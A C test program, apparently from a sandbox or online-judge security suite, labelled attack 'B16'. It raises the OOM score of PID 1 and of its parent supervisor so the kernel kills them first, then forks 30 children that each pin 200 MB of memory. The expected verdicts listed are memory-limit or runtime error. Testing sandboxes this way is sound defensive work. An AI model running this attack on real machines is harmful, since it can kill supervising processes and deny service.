// @attack B16 make the supervisor the kernel's first victim, then fill the box faster than the watch
// @allowed memory_limit_exceeded runtime_error
// @why the supervisor's score is out of reach, and the program is the victim
// @essential
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

static void score(const char *who, const char *points) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/oom_score_adj", who);
    int file = open(path, O_WRONLY);
    if (file < 0) return;
    if (write(file, points, 4) < 0) perror(path);
    close(file);
}

int main(void) {
    char parent[16];
    snprintf(parent, sizeof parent, "%d", getppid());
    score("1", "1000");
    score(parent, "1000");
    score("self", "-999");
    score("self", "0000");
    for (int child = 0; child < 30; child++)
        if (fork() == 0) break;
    mmap(NULL, 200UL << 20, PROT_READ | PROT_WRITE,
         MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
    for (;;) pause();
}
